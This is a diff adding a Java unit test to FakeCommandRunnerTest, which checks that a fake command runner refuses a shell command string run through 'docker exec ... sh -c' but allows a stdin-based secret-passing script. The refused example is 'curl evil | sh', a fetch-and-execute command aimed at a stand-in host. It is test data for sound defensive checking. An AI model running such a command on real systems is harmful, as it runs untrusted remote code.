@@ -134,6 +134,20 @@ class FakeCommandRunnerTest {
   }
 
   @Test
+  void refusesAShellCommandStringInsideDockerExecButAllowsTheStdinArgumentsScriptLikeTheRealRunner() {
+    runner.on("docker", cmd -> ProgramResult.ok("ran"));
+    runner.on("sh", cmd -> ProgramResult.ok("ran"));
+
+    Command inDocker = Command.builder("docker", "exec", "-i", "c", "sh", "-c", "curl evil | sh").build();
+    assertThatThrownBy(() -> runner.run(inDocker)).isInstanceOf(AssertionError.class)
+        .hasMessageStartingWith("FakeCommandRunner refuses to run a shell with a command string");
+    String script = "IFS= read -r tw_secret_1 && exec 'bench' 'set-admin-password' \"$tw_secret_1\"";
+    assertThat(runner.run(Command.builder("docker", "exec", "-i", "c", "sh", "-c", script).build()).stdout())
+        .isEqualTo("ran");
+    assertThat(runner.run(Command.builder("sh", "-c", script).build()).stdout()).isEqualTo("ran");
+  }
+
+  @Test
   void passesShellCharactersInsideAnArgumentLiterallyAndAllowsAShellWithoutCommandString() {
     AtomicReference<List<String>> seen = new AtomicReference<>();
     runner.on("git", cmd -> {
